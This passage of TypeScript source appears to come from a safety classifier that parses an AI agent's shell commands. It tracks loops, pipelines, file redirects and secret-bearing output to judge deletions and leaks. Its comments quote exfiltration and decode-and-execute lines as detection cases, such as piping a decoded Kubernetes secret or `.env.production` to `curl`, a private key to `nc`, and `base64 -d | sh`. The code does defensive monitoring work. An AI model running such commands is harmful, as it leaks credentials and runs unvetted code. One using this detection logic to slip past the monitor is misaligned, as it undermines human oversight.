const LISTED_NAMES = /^\$\(\s*ls(\s+-1)?(\s+(?!-)[\w./-]+)?\s*\)$/;

/**
 * Round 30 (h30): `for id in $(gh api repos/O/R/actions/runs -q '.workflow_runs[] | select(…) | .id'); do gh api -X DELETE
 * repos/O/R/actions/runs/$id; done`: a git host's listing whose jq filter ends in a numeric id field (`id`, `databaseId`,
 * `number`, `iid`: integers in GitHub's and GitLab's APIs), by `gh`/`glab` with `-q`/`--jq` or piped to `jq -r`. Each
 * word the loop gets is a number, which holds no `/` or `..`: the body is judged once with the variable set to a number
 * (as the xargs form's `{}` and answer 99's CI numbers are), so the path it shows is the path judged.
 */
const IDS_LISTED = /^\$\(\s*(?:gh|glab) (?:api|run list|pr list|issue list|release list|cache list)\b[^|;&$`'"]*(?:(?:-q|--jq)\s+|\|\s*jq\s+-r\s+)(?:'[^']*|"[^"$`]*)\.(?:id|databaseId|number|iid)['"]\s*\)$/;
function visitFor(node: Node, scope: ShellScope, env: ShellEnv, stdin: Stdin | null, offset: number): void {
  const variable = node.childForFieldName('variable')?.text;
  const body = node.childForFieldName('body');
  const values = node.childrenForFieldName('value');
  for (const v of values) if (v) visitSubstitutions(v, scope, env, offset);
  if (!body) return;
  // `for h in db-{1..3}.staging.internal`: brace expansion gives the loop its words, as for a command's arguments.
  const concrete: Array<{ value: string | null; glob: boolean }> = values.flatMap((v): Array<{ value: string | null; glob: boolean }> => (v ? expandBraces(toWord(v, scope.vars, offset)) : [{ value: null, glob: false }]));
  // The body is judged once per listed word, for a short fixed list (answer 372.6: at most SHORT_FIXED_LIST); a longer
  // one leaves the variable not fixed.
  // `for d in packages/*/node_modules`: the variable holds each match, which the pattern describes (what `rm -rf "$d"`
  // deletes is judged by the pattern's path, as `rm -rf packages/*/node_modules` is).
  const prefixed = values.length === 1 && values[0]?.type === 'command_substitution' ? BRANCHES_BY_PREFIX.exec(values[0].text)?.[5] : undefined;
  const listed = values.length === 1 && values[0]?.type === 'command_substitution' && LISTED_NAMES.test(values[0].text);
  const ids = values.length === 1 && values[0]?.type === 'command_substitution' && IDS_LISTED.test(values[0].text);
  const runs: Array<string | null> = prefixed !== undefined ? [`${prefixed}/portcullis-sample`] : listed ? ['*'] : ids ? [RUN_NUMBER_STANDIN] : concrete.length === 0 || concrete.length > SHORT_FIXED_LIST || concrete.some((c) => c.value === null) ? [null] : concrete.map((c) => c.value);
  // `for arn in $(aws acm list-certificates --certificate-statuses EXPIRED …)`: the variable holds items a state shows unused.
  const unused = variable && values.length === 1 ? loopDisposableListing(values[0]!, scope) : undefined;
  const listedOutside = scope.listedBy;
  if (unused !== undefined) scope.listedBy = new Map([...(listedOutside ?? []), [variable!, unused]]);
  for (const value of runs) {
    if (variable) {
      scope.vars.set(variable, value);
      markRouting(scope.vars, variable);
    }
    if (variable === 'PATH') scope.searchPath = value ?? '?';
    visit(body, scope, env, stdin, offset);
  }
  scope.listedBy = listedOutside;
}

/**
 * `comm FLAGS A B` whose operands are name listings (orphan-log-groups.ts): each a process substitution (`<(…)`), whose
 * stages are read as a pipeline's, or `-`, the pipe. What it prints, when that is known disposable, or undefined.
 */
function commOutput(args: ReadonlyArray<string | null>, argNodes: ReadonlyArray<Node | null>, scope: Pick<ShellScope, 'vars'>, input: Stdin | null): DisposableListing | undefined {
  const flags = args.filter((a): a is string => a !== null && /^-./.test(a));
  const sides = argNodes.flatMap((node, i) => {
    if (args[i] === '-') return [input?.nameListing];
    const written = args[i] !== null ? scope.vars.get(`${NAMES_FILE_MARK}${args[i]}`) : undefined;
    if (typeof written === 'string') return [JSON.parse(written) as NameListing];
    if (args[i] !== null || node?.type !== 'process_substitution') return /^-./.test(args[i] ?? '') ? [] : [undefined];
    const inner = node.namedChildren.filter((c): c is Node => c !== null);
    const stages = inner.length === 1 && inner[0]!.type === 'pipeline' ? inner[0]!.namedChildren.filter((c): c is Node => c !== null) : inner;
    let out: Stdin | null = null;
    for (const stage of stages) out = describeProducer(stage, scope, out);
    return [inner.length === 1 ? out?.nameListing : undefined];
  });
  return commOfListings(flags, sides);
}

/**
 * The state listing a `for` loop's one word runs (`$(aws acm list-certificates …)`, one fixed command), or undefined; a
 * pipeline's stages are read as on the pipe (`$(doctl apps list … | awk '$2=="web-pr-1423"{print $1}')`, answer 339).
 */
function loopDisposableListing(value: Node, scope: ShellScope): DisposableListing | undefined {
  const inner = value.type === 'command_substitution' ? value.namedChildren : value.type === 'string' && value.namedChildren.length === 1 && value.namedChildren[0]?.type === 'command_substitution' ? value.namedChildren[0].namedChildren : [];
  if (inner.length === 1 && inner[0]?.type === 'pipeline') {
    let out: Stdin | null = null;
    for (const stage of inner[0].namedChildren.filter((c): c is Node => c !== null)) {
      if (stage.type !== 'command' || fixedArgv(stage, scope) === null) return undefined;
      out = describeProducer(stage, scope, out);
    }
    return out?.disposableListing?.kind === 'named listing' ? undefined : out?.disposableListing;
  }
  const argv = inner.length === 1 && inner[0] ? fixedArgv(inner[0], scope) : null;
  return argv === null ? undefined : disposableListing(argv[0]!.replace(/^.*\//, ''), argv.slice(1));
}

/**
 * `redis-cli --scan --pattern P | while read -r k; do redis-cli … "$k" …; done`: the loop reads each key the scan prints,
 * so its variable holds the keys matching P, as `for d in packages/*` holds each match of its pattern (visitFor). Only
 * for a `read` of one variable whose input is such a key listing; other loops are visited as before.
 */
function visitKeyLoop(node: Node, scope: ShellScope, env: ShellEnv, stdin: Stdin | null, offset: number): boolean {
  const pattern = stdin?.keysMatching;
  const condition = node.childForFieldName('condition');
  const body = node.childForFieldName('body');
  if (pattern === undefined || !condition || !body) return false;
  const read = condition.type === 'command' ? condition : condition.namedChildren.length === 1 && condition.namedChildren[0]?.type === 'command' ? condition.namedChildren[0] : null;
  if (!read || read.childForFieldName('name')?.text !== 'read') return false;
  const args = read.childrenForFieldName('argument').map((a) => a?.text ?? '');
  const names = args.filter((a) => !/^-[rs]+$/.test(a) && !/^IFS=/.test(a));
  if (names.length !== 1 || !/^[A-Za-z_]\w*$/.test(names[0]!) || args.some((a) => /^-[^rs]/.test(a))) return false;
  // The loop runs in the pipeline's subshell: its variable does not outlive it.
  const inner = childScope(scope);
  visit(condition, inner, env, null, offset);
  inner.vars.set(names[0]!, pattern);
  visit(body, inner, env, null, offset);
  return true;
}

function visitPipeline(node: Node, scope: ShellScope, env: ShellEnv, stdin: Stdin | null, offset: number): void {
  let previous: Node | null = null;
  let previousInput: Stdin | null = stdin;
  for (const stage of node.namedChildren) {
    if (!stage) continue;
    const input = previous ? describeProducer(previous, scope, previousInput) : stdin;
    visit(stage, scope, env, input, offset);
    previous = stage;
    previousInput = input;
  }
}

/**
 * `LISTING | tr … | sort > live.txt`: names `comm` may read from that file later in the input (orphan-log-groups.ts, the
 * lead's answer 339 on answer 330's file form). Another statement truncating the file forgets them.
 */
function recordNamesFile(node: Node, scope: ShellScope, stdin: Stdin | null): void {
  for (const r of node.childrenForFieldName('redirect')) {
    const dest = r?.type === 'file_redirect' && /^\d*&?>/.test(r.text) ? r.childForFieldName('destination') : null;
    const written = dest ? evalWord(dest, scope.vars).value : null;
    if (written !== null) scope.vars.delete(`${NAMES_FILE_MARK}${written}`);
  }
  const file = truncatedFile(node, scope);
  if (file === null) return;
  const body = node.childForFieldName('body');
  let out: Stdin | null = stdin;
  if (body?.type === 'pipeline') for (const stage of body.namedChildren.filter((c): c is Node => c !== null)) out = describeProducer(stage, scope, out);
  if (body?.type === 'pipeline' && out?.nameListing !== undefined) scope.vars.set(`${NAMES_FILE_MARK}${file}`, JSON.stringify(out.nameListing));
  else scope.vars.delete(`${NAMES_FILE_MARK}${file}`);
}

/** A key no shell variable can have: the name listing (JSON) a pipeline wrote to this file. */
const NAMES_FILE_MARK = '\u0000names-file:';

/** The one file a statement's only redirect truncates and writes (`> live.txt`), by its fixed name, or null. */
function truncatedFile(node: Node, scope: Pick<ShellScope, 'vars'>): string | null {
  const redirects = node.childrenForFieldName('redirect');
  const r = redirects.length === 1 ? redirects[0] : null;
  if (r?.type !== 'file_redirect' || !/^1?>(?![>&|])/.test(r.text)) return null;
  const dest = r.childForFieldName('destination');
  const value = dest ? evalWord(dest, scope.vars).value : null;
  return value !== null && /^[\w./-]+$/.test(value) ? value : null;
}

/** A key no shell variable can have: the workspace the agent started in (the repository whose top `git rev-parse` prints). */
const WORKSPACE_MARK = '\u0000workspace';
/** Set (to anything) while the action is read as run outside any git repository (see `readAgain`). */
const OUTSIDE_REPOSITORY_MARK = '\u0000outside-repository';

/** A key no shell variable can have: marks, among the variables, a name that a function defined in the input now runs. */
const FUNCTION_MARK = '\u0000function:';

/** Filters that print (part of) what they read: decoders, JSON and text cutters, compressors. */
const SECRET_KEEPING_FILTERS = /^(base64|base32|basenc|openssl|xxd|od|hexdump|jq|yq|gojq|tr|sed|awk|gawk|cut|head|tail|grep|egrep|sort|uniq|rev|cat|tee|gzip|bzip2|xz|zstd|envsubst)$/;

/**
 * The pattern of the lines a filter drops from its input, or undefined when it is not such a filter: `grep -v P`
 * (grep(1): `-v` selects the lines that do not match; `-E`, `-F`, `-i`, `-w`, `-x` change how P matches) and sed's
 * `/P/d` (sed(1): delete the lines matching P), nothing else in the script.
 */
function linesRemovedBy(name: string, args: string[]): string | undefined {
  if (/^(grep|egrep|fgrep)$/.test(name)) {
    const flags = args.filter((a) => /^-[A-Za-z]+$/.test(a) && a !== '-e');
    const rest = args.filter((a, i) => !(/^-[A-Za-z]+$/.test(a) && a !== '-e') && args[i - 1] !== '-e' && a !== '-e');
    const e = args.indexOf('-e');
    const patterns = e === -1 ? rest : [args[e + 1] ?? ''];
    if (!flags.some((f) => f.includes('v')) || flags.some((f) => /[^vEFiwxsPG]/.test(f.slice(1))) || patterns.length !== 1 || (e !== -1 && rest.length > 0)) return undefined;
    return patterns[0];
  }
  if (name === 'sed') {
    const script = args.filter((a) => a !== '-e' && a !== '-E' && a !== '-r');
    if (script.length !== 1 || args.some((a) => /^-[^eEr]/.test(a))) return undefined;
    return /^\/((?:[^/\\]|\\.)+)\/d$/.exec(script[0]!)?.[1];
  }
  return undefined;
}

/**
 * A logical dump's SQL, by its tool's options: pg_dump and pg_dumpall write CREATE and COPY statements, and DROP ones
 * before them only with `-c`/`--clean` (pg_dump reference); a custom, directory or tar format (`-Fc`, `-Fd`, `-Ft`) is no
 * SQL at all. mysqldump's default `--opt` includes `--add-drop-table` (a DROP TABLE before each CREATE) unless
 * `--skip-add-drop-table`, `--skip-opt` or `--no-create-info` (`-t`) is given; `--add-drop-database` drops databases
 * (mysqldump reference); `--replace` overwrites existing rows. Undefined for any other producer.
 */
/** A short option given alone or in a bundle (`-c`, `-cO`), the bundle read up to its first letter that takes a value. */
function shortOption(args: string[], letter: string, valued: string): boolean {
  for (const a of args) {
    if (!/^-[a-zA-Z]/.test(a)) continue;
    for (const ch of a.slice(1)) {
      if (ch === letter) return true;
      if (valued.includes(ch) || !/[a-zA-Z]/.test(ch)) break;
    }
  }
  return false;
}
function dumpOutput(name: string, args: string[]): { tool: string; drops: boolean } | undefined {
  if (name === 'pg_dump' || name === 'pg_dumpall') {
    return { tool: name, drops: args.includes('--clean') || shortOption(args, 'c', 'dfFhjnNpStTUZEel') };
  }
  if (name === 'mysqldump' || name === 'mariadb-dump') {
    const keeps = args.some((a) => /^--(skip-add-drop-table|skip-opt|no-create-info)$/.test(a)) || shortOption(args, 't', 'hPSuwrTpWG');
    // `--replace` writes REPLACE INTO: each row whose key exists is deleted and written again from the dump.
    return { tool: name, drops: args.includes('--add-drop-database') || args.includes('--replace') || !keeps };
  }
  return undefined;
}

/**
 * What a pipeline stage feeds the next one: fixed text for echo/printf/cat-heredoc, the decoded text
 * when the stage is a pure decoder of fixed input (`echo … | base64 -d | sh`), else unknown.
 */
function describeProducer(node: Node, scope: Pick<ShellScope, 'vars'>, input: Stdin | null): Stdin {
  let cmd = node;
  let heredoc: string | null = null;
  if (node.type === 'redirected_statement') {
    const body = node.childForFieldName('body');
    heredoc = heredocText(node, scope);
    // `cd d && cat <<EOF | kubectl apply -f -`: the heredoc tree-sitter-bash hangs on the list is its last command's input.
    if (body) cmd = lastSimpleCommand(body) ?? body;
  }
  if ((cmd.type === 'subshell' || cmd.type === 'compound_statement') && heredoc === null) {
    const kept = crontabAppend(cmd, scope);
    if (kept !== null) return { text: kept, producer: 'the current crontab and fixed lines', keepsCrontab: true };
  }
  if (cmd.type !== 'command') return { text: null, producer: cmd.type };
  const nameNode = cmd.childForFieldName('name');
  let name = nameNode ? evalWord(nameNode, scope.vars).value : null;
  let argNodes = cmd.childrenForFieldName('argument');
  // `command echo …`, `builtin printf …`: bash's own words that run the builtin they name print what it prints.
  while ((name === 'command' || name === 'builtin') && argNodes[0] && !argNodes[0].text.startsWith('-')) {
    name = evalWord(argNodes[0], scope.vars).value;
    argNodes = argNodes.slice(1);
  }
  if (name !== null && scope.vars.has(`${FUNCTION_MARK}${name}`)) {
    // SECURITY: a function defined earlier under a producer's name (`echo() { printf /; }`) prints what its body says.
    return { text: null, producer: `the function ${name}` };
  }
  // `sudo cat /etc/ssl/private/site.key | nc …`, `env LC_ALL=C echo … >> ~/.bashrc`, `nice printf …`: a wrapper that
  // leaves the output alone prints what the command it runs prints, at any depth.
  const commandStart = (): number | undefined => (name !== null ? outputKeepingCommandStart(name, argNodes.map((a) => evalWord(a, scope.vars).value)) : undefined);
  for (let wrapped = commandStart(); wrapped !== undefined; wrapped = commandStart()) {
    name = evalWord(argNodes[wrapped]!, scope.vars).value;
    argNodes = argNodes.slice(wrapped + 1);
  }
  const args = argNodes.map((a) => (a ? evalWord(a, scope.vars).value : null));
  // Round 42 (nxa42, answer 431.4): `echo "$T"`, `printf '%s' "$T"` of a variable holding a secret print the secret.
  const printedVariable = (name === 'echo' || name === 'printf' || name === 'print') && heredoc === null ? argNodes.map((a) => (a ? secretVariableExpanded(a.text, scope.vars) : undefined)).find((v) => v !== undefined) : undefined;
  if (printedVariable !== undefined) return { text: null, producer: `${name} "$${printedVariable}"`, secret: scope.vars.get(`${SECRET_VARIABLE_MARK}${printedVariable}`)! };
  // A here-string of such a variable is what a filter or printer reads (`base64 <<< "$T"`, `cat <<< "$T"`).
  const hereSecret = heredoc === null ? herestringSecret(node === cmd ? [cmd] : [node, cmd], scope) : undefined;
  if (hereSecret !== undefined && name !== null && (SECRET_KEEPING_FILTERS.test(name.replace(/^.*\//, '')) || name === 'cat')) return { text: null, producer: `${name} of a here-string`, secret: hereSecret };
  if (name === 'cat' && args.length === 0 && heredoc !== null) return { text: heredoc, producer: 'cat' };
  // `: | sudo tee F`, `true | tee F`, `cat /dev/null | tee F`: nothing is printed, so what they feed is empty (round 28, s28).
  if (((name === ':' || name === 'true') || (name === 'cat' && args.length === 1 && args[0] === '/dev/null')) && heredoc === null && node.type !== 'redirected_statement') return { text: '', producer: name };
  // `jq -Rn '[inputs]' < .env.production | curl -d @- URL`: a filter fed a credential file by `<` prints its secrets.
  const inputFile = node.type === 'redirected_statement' && heredoc === null ? redirectedInputFile(node, scope) : null;
  if (inputFile !== null && name !== null && isCredentialFileName(inputFile) && printsItsInput(name, args.map((a) => a ?? ''))) {
    return { text: null, producer: `${name} < ${inputFile}`, secret: `the credential file \`${inputFile}\`` };
  }
  if (name === 'crontab' && heredoc === null && args.includes('-l') && !args.includes('-r')) return { text: null, producer: 'crontab', currentCrontab: true };
  if (heredoc === null && printsCompletionScript(name, args)) return { text: null, producer: `${name} ${args.join(' ')}`, completionScript: true };
  const ownScan = name !== null && heredoc === null ? ownScanConfig(name, args) : undefined;
  if (ownScan !== undefined) return { text: null, producer: `${name} ${args.join(' ')}`, ownScanOf: ownScan };
  // `crontab -l | grep -v P`, `crontab -l | sed '/P/d'`: the current table with the lines matching P taken out.
  const without = input?.currentCrontab && name !== null && heredoc === null && args.every((a) => a !== null) ? linesRemovedBy(name, args as string[]) : undefined;
  if (without !== undefined) return { text: null, producer: `${name} of the current crontab`, crontabWithout: without };
  // A filter between a secret printer and its reader passes the secret on (`kubectl get secret … -o jsonpath=… | base64 -d
  // | curl --data-binary @- URL`): what it prints is the secret decoded, cut or reshaped.
  if (input?.secret !== undefined && name !== null && heredoc === null && SECRET_KEEPING_FILTERS.test(name.replace(/^.*\//, ''))) {
    return { text: null, producer: `${name} of ${input.producer}`, secret: input.secret };
  }
  // Round 43 (bl43geo): `shp2pgsql -d … | psql`: a spatial loader prints SQL whose kind its mode fixes.
  const loaded = name !== null && heredoc === null ? loaderPrintedSql(name, args) : undefined;
  if (loaded !== undefined) return { text: loaded, producer: `${name} ${args.map((a) => a ?? '?').join(' ')}` };
  if (name !== null && heredoc === null && args.every((a) => a !== null)) {
    const decoded = decodeStage(name, args as string[], input?.text ?? null);
    if (decoded !== undefined) return { text: decoded, producer: `${name} of ${input?.producer ?? 'its input'}` };
  }
  // An operand the input does not fix (`vault kv get "$P"`, `curl $VAULT_ADDR/v1/secret/data/db`) is read as written:
  // what the command prints is a secret whichever path the variable holds.
  const shown = args.map((a, i) => a ?? argNodes[i]?.text ?? '');
  const secret = name !== null ? secretPrinted(name, shown) : undefined;
  // `sops -d FILE | kubectl apply -f -`: the decrypted file is a secret and the manifest applied, bound as FILE.
  const decrypted = secret !== undefined && heredoc === null ? sopsDecryptedFile(name!, args) : undefined;
  if (secret !== undefined) return { text: null, producer: name!, secret, ...(decrypted !== undefined ? { rendered: { path: decrypted, role: 'manifest' as const } } : {}) };
  // A Secret kubectl prints stays a secret on the pipe (manifest-sources.ts).
  const pipedSecret = name !== null && heredoc === null ? secretOnPipe(name, args) : undefined;
  const keptSecret = pipedSecret !== undefined ? { secret: pipedSecret } : {};
  const rendered = name !== null && heredoc === null ? renderedManifests(name, args) : undefined;
  if (rendered !== undefined) return { text: null, producer: `${name} ${args[0]}`, rendered, ...keptSecret };
  const generated = name !== null && heredoc === null ? generatedManifests(name, args, shown) : undefined;
  if (generated !== undefined) return { text: null, producer: generated, generatedBy: generated, ...keptSecret };
  const built = name !== null && heredoc === null ? kubectlCreateFromFiles(name, args) : undefined;
  if (built !== undefined) return { text: null, producer: built.producer, builtFrom: built.files, ...keptSecret };
  if (pipedSecret !== undefined) return { text: null, producer: name!, secret: pipedSecret };
  // `lsof -ti :5432`: the pids of the daemon on a database engine's port, which `| xargs kill` stops.
  // `pgrep -x sshd`, `pidof postgres`: the pids of a system daemon by its name, which `| xargs kill` stops as `killall` does.
  const daemon = heredoc === null ? (portDaemon(name, args) ?? lookedUpDaemon(name, args)) : undefined;
  if (daemon !== undefined) return { text: null, producer: `${name} ${args.join(' ')}`, pidsOf: daemon };
  // `$(pwd)` is PWD (what `cd` set: unknown after a `cd` we cannot follow); `$(git rev-parse --show-toplevel)` is the
  // workspace while the shell is in it (the agent's workspace is its repository), and empty in the second reading of an
  // action as run outside any repository (classifyShellSource).
  if (heredoc === null && name === 'pwd' && args.every((a) => a === '-L' || a === '-P')) {
    const pwd = scope.vars.get('PWD');
    if (pwd) return { text: pwd, producer: 'pwd' };
  }
  if (heredoc === null && name === 'git' && args.length === 2 && args[0] === 'rev-parse' && args[1] === '--show-toplevel') {
    if (scope.vars.has(OUTSIDE_REPOSITORY_MARK)) return { text: '', producer: 'git rev-parse --show-toplevel' };
    const ws = scope.vars.get(WORKSPACE_MARK);
    const pwd = scope.vars.get('PWD');
    if (ws && pwd && (pwd === ws || pwd.startsWith(`${ws}/`))) return { text: ws, producer: 'git rev-parse --show-toplevel' };
  }
  // Round 30 (k30): `$(git rev-parse --git-dir)` (also `--absolute-git-dir`, `--git-common-dir`) is the repository's git
  // folder, read as the workspace's `.git`: in a linked worktree or a submodule git prints a folder elsewhere, but always
  // one of git's own, which is judged the same (a stale `index.lock` there is git's to remove; anything else is git's data).
  if (heredoc === null && name === 'git' && args.length === 2 && args[0] === 'rev-parse' && /^--(git-dir|absolute-git-dir|git-common-dir)$/.test(args[1] ?? '')) {
    if (scope.vars.has(OUTSIDE_REPOSITORY_MARK)) return { text: '', producer: `git rev-parse ${args[1]}` };
    const ws = scope.vars.get(WORKSPACE_MARK);
    const pwd = scope.vars.get('PWD');
    if (ws && pwd && (pwd === ws || pwd.startsWith(`${ws}/`))) return { text: `${ws}/.git`, producer: `git rev-parse ${args[1]}` };
  }
  // One volume's, disk's or database's snapshot listing that keeps the newest N (answer 234), and `tail -n +K` of one.
  const snapshots = name !== null && heredoc === null && args.every((a) => a !== null) ? (input?.snapshots && name === 'tail' ? snapshotListingTail(input.snapshots, tailFrom(args as string[])) : input?.snapshots && name === 'head' ? snapshotListingHead(input.snapshots, args as string[]) : input?.snapshots ? snapshotListingFilter(input.snapshots, name.replace(/^.*\//, ''), args as string[]) : snapshotListing(name.replace(/^.*\//, ''), args as string[])) : undefined;
  if (snapshots !== undefined) return { text: null, producer: `${name} of a snapshot listing`, snapshots };
  const preview = name !== null && heredoc === null && args.every((a) => a !== null) ? previewListing(name.replace(/^.*\//, ''), args as string[]) : undefined;
  if (preview !== undefined) return { text: null, producer: `${name} of one preview's ${preview.kind}`, previewListing: preview };
  const byState = name !== null && heredoc === null ? disposableListing(name.replace(/^.*\//, ''), args) : undefined;
  if (byState !== undefined) return { text: null, producer: `${name} of ${byState.kind}`, disposableListing: byState };
  // `aws s3 ls s3://B/runs/ | awk '$2 ~ /^7[0-9]{3}\/$/ {print $2}'`: one run of the range stands for what is printed.
  const folders = name !== null && heredoc === null ? objectFolderListing(name.replace(/^.*\//, ''), args) : undefined;
  if (folders !== undefined) return { text: null, producer: `${name} ls ${folders}`, objectFolders: folders };
  const runFolder = input?.objectFolders !== undefined && name !== null && heredoc === null ? runRangeFolder(name.replace(/^.*\//, ''), args) : undefined;
  if (runFolder !== undefined) return { text: runFolder, producer: `${name} of the run folders of ${input!.objectFolders}` };
  // A listing of ids and names narrowed by `awk` or `jq` to one run's own (disposable-listing.ts, the lead's answer 339).
  const narrowed = input?.disposableListing !== undefined && name !== null && heredoc === null ? namedListingFiltered(input.disposableListing, name.replace(/^.*\//, ''), args) : undefined;
  if (narrowed !== undefined) return { text: null, producer: `${name} of ${narrowed.kind}`, disposableListing: narrowed };
  // Some of a merged-branch listing's names, each still a branch's (answer 359.4).
  const mergedKept = input?.disposableListing?.kind === 'merged branches' && name !== null && heredoc === null && mergedBranchesKept(name.replace(/^.*\//, ''), args) ? input.disposableListing : undefined;
  if (mergedKept !== undefined) return { text: null, producer: `${name} of merged branches`, disposableListing: mergedKept };
  // Merged remote branches kept to one person's prefix and stripped of the remote's name (answer 392.5).
  const remoteKept = input?.disposableListing?.kind === 'merged remote branches' && name !== null && heredoc === null ? remoteMergedFiltered(input.disposableListing, name.replace(/^.*\//, ''), args) : undefined;
  if (remoteKept !== undefined) return { text: null, producer: `${name} of merged remote branches`, disposableListing: remoteKept };
  // Names `comm` may compare, and what it prints from two of them (orphan-log-groups.ts, the lead's answer 330).
  // A listing reads no input, whatever is on its pipe (tree-sitter-bash hangs `A | B > f && C | D` as `A | (B > f && C | D)`).
  const names = name === null || heredoc !== null ? undefined : (input?.nameListing !== undefined ? nameListingFiltered(input.nameListing, name, args) : undefined) ?? nameListing(name.replace(/^.*\//, ''), args);
  if (names !== undefined) return { text: null, producer: `${name} of ${names.names}`, nameListing: names };
  const compared = name === 'comm' && heredoc === null ? commOutput(args, argNodes, scope, input) : undefined;
  if (compared !== undefined) return { text: null, producer: `comm of ${compared.kind}`, disposableListing: compared };
  // `ls *.log`, `ls -d DIR/*`: ls(1) prints each operand that is not a folder as given, so operands that are globs (or any
  // operand with `-d`) are printed as their matches; a folder's own listing prints bare names, not paths, and stays unseen.
  if (name === 'ls' && heredoc === null && args.every((a) => a !== null)) {
    const words = args as string[];
    const flags = words.filter((a) => a.startsWith('-'));
    const operands = words.filter((a) => !a.startsWith('-'));
    const dirsAsFiles = flags.some((f) => !f.startsWith('--') && f.includes('d'));
    if (operands.length > 0 && flags.every((f) => /^-[1adtrSUcuAhlLX]+$/.test(f) && !f.includes('R')) && operands.every((o) => dirsAsFiles || /[*?[]/.test(o))) {
      return { text: null, producer: `ls ${words.join(' ')}`, listed: operands };
    }
    // `ls -1t` with no operand prints the bare names of the working folder's entries, without the hidden ones: the
    // matches of `*` there (`cd releases && ls -1t | tail -n +6 | xargs rm -rf`). Long formats print more than names.
    if (operands.length === 0 && flags.length > 0 && flags.every((f) => /^-[1trSUcu]+$/.test(f))) return { text: null, producer: `ls ${words.join(' ')}`, listed: ['*'] };
  }
  // Filters that pass on some of the lines they read (`ls -1dt releases/* | tail -n +6`): still paths ls listed.
  if (input?.listed && name !== null && heredoc === null && /^(head|tail|sort|grep|egrep|fgrep)$/.test(name) && args.every((a) => a !== null && !/^-[a-zA-Z]*[fF]$/.test(a) && !/^--(file|follow)/.test(a))) {
    // `ls -t` (newest first, no `-r`) then `tail -n +N`: the N-1 newest entries are left out of what is passed on.
    const from = name === 'tail' ? tailFrom(args as string[]) : undefined;
    const newestFirst = /^ls /.test(input.producer) && input.producer.split(' ').some((w) => /^-[^-]*t/.test(w)) && !input.producer.split(' ').some((w) => /^-[^-]*r/.test(w));
    return { text: null, producer: `${name} of ${input.producer}`, listed: input.listed, ...(from !== undefined && newestFirst ? { keepsNewest: from - 1 } : {}) };
  }
  // `kubectl get KIND [selectors] -o name`: the names of the objects the listing selects; filters pass on some of them
  // (`| grep api`, `| head -3`, `| awk '{print $1}'`), as they do for ls.
  const listing = name !== null && heredoc === null && args.every((a) => a !== null) ? kubeListing(name.replace(/^.*\//, ''), args as string[]) : undefined;
  if (listing !== undefined) return { text: null, producer: `${name} get ${listing.kind}`, kubeListed: listing };
  const named = name !== null && heredoc === null && args.every((a) => a !== null) ? kubeNamedObjects(name.replace(/^.*\//, ''), args as string[]) : undefined;
  if (named !== undefined) return { text: null, producer: `${name} get ${named}`, kubeObjects: named };
  // `kubectl get deploy -n NS -o yaml | linkerd inject - | kubectl apply -f -` (Linkerd's "Adding your services to the
  // mesh"): the live objects of the listing, printed back with the proxy annotation added; applying them rolls them out.
  if ((input?.kubeListed || input?.kubeObjects !== undefined) && name !== null && heredoc === null && name.replace(/^.*\//, '') === 'linkerd' && args.length === 2 && args[0] === 'inject' && args[1] === '-') {
    return { text: null, producer: `linkerd inject of ${input.producer}`, generatedBy: `linkerd inject of ${input.producer}` };
  }
  // A filter that keeps only finished objects (`| grep Evicted`, `| jq -r '.items[] | select(.status.succeeded==1) |
  // .metadata.name'`) or those scaled to zero (`select(.spec.replicas==0)`): what is passed on is some of those (listingFilter).
  const kept = input?.kubeListed && name !== null && heredoc === null && args.every((a) => a !== null) ? listingFilter(name.replace(/^.*\//, ''), args as string[], input.kubeListed.format, input.kubeListed.kind) : undefined;
  if (input?.kubeListed && kept !== undefined) {
    return { text: null, producer: `${name} of ${input.producer}`, kubeListed: { ...input.kubeListed, [kept]: true } };
  }
  if (input?.kubeListed && name !== null && heredoc === null && args.every((a) => a !== null) && (/^(head|tail|sort|grep|egrep|fgrep)$/.test(name) ? args.every((a) => !/^-[a-zA-Z]*[fF]$/.test(a!) && !/^--(file|follow)/.test(a!)) : /^(g?awk)$/.test(name) && args.length === 1 && /^\{\s*print \$1\s*\}$/.test(args[0]!))) {
    return { text: null, producer: `${name} of ${input.producer}`, kubeListed: input.kubeListed };
  }
  // A find that only lists its matches (no action of its own that runs or deletes: those are judged where find runs).
  if (name === 'find' && heredoc === null && args.every((a) => a !== null) && !args.some((a) => /^-(exec|execdir|ok|okdir|delete|fprint0?|fprintf|fls)$/.test(a!))) {
    return { text: null, producer: name, found: args as string[] };
  }
  // `fd -g coverage | xargs rm -rf`: fd lists what find would with the same roots and name tests (fd's other filters
  // only narrow it), one path a line. Not with an output format or a full-path pattern, which the name tests do not read.
  if ((name === 'fd' || name === 'fdfind') && heredoc === null && args.every((a) => a !== null) && !args.some((a) => /^(-x|--exec|-X|--exec-batch|-l|--list-details|--format|-p|--full-path|--and)$|^--format=/.test(a!))) {
    const [roots, tests] = fdAsFind(args.map((a) => literalWord(a!, 0, 0)));
    if (roots.every((r) => r.value !== null) && tests.every((t) => t !== null)) return { text: null, producer: name, found: [...(roots.length > 0 ? roots.map((r) => r.value!) : ['.']), ...(tests as string[])] };
  }
  // `redis-cli --scan --pattern P` (every key without a pattern) and `redis-cli KEYS P` print the keys matching P
  // (redis-cli reference, "Getting a list of keys"; the KEYS command).
  if (name !== null && heredoc === null && /^(redis|valkey|keydb)-cli$/.test(name.replace(/^.*\//, '')) && args.every((a) => a !== null)) {
    const words = args as string[];
    const keysAt = words.findIndex((a) => /^keys$/i.test(a));
    const at = words.indexOf('--pattern');
    const pattern = words.includes('--scan') ? (at === -1 ? '*' : words[at + 1]) : keysAt !== -1 ? words[keysAt + 1] : undefined;
    if (pattern !== undefined) return { text: null, producer: `${name} ${words.join(' ')}`, keysMatching: pattern };
  }
  // `pg_dump DB | psql OTHER`, `mysqldump DB | mysql OTHER`: what is on the pipe is a dump, whose statements the dump
  // tool's own options decide (see `dumpOutput`).
  const dump = name !== null && heredoc === null && args.every((a) => a !== null) ? dumpOutput(name.replace(/^.*\//, ''), args as string[]) : undefined;
  if (dump !== undefined) return { text: null, producer: `${name} ${(args as string[]).join(' ')}`.slice(0, 120), dump };
  const cache = name !== null && heredoc === null && cacheFolderIsDefault(cmd, name, scope) ? cacheFolderQuery(name, args, scope.vars.get('HOME') ?? null) : null;
  if (cache !== null) return { text: cache, producer: `${name} ${args.join(' ')}` };
  if (name === 'printf' && args.length > 0 && args.every((a) => a !== null)) {
    return { text: printfOutput(args as string[]), producer: name };
  }
  if (name === 'echo' && args.every((a) => a !== null)) {
    let parts = args as string[];
    const interpret = parts.includes('-e');
    parts = parts.filter((p) => !/^-[neE]+$/.test(p));
    const joined = parts.join(' ');
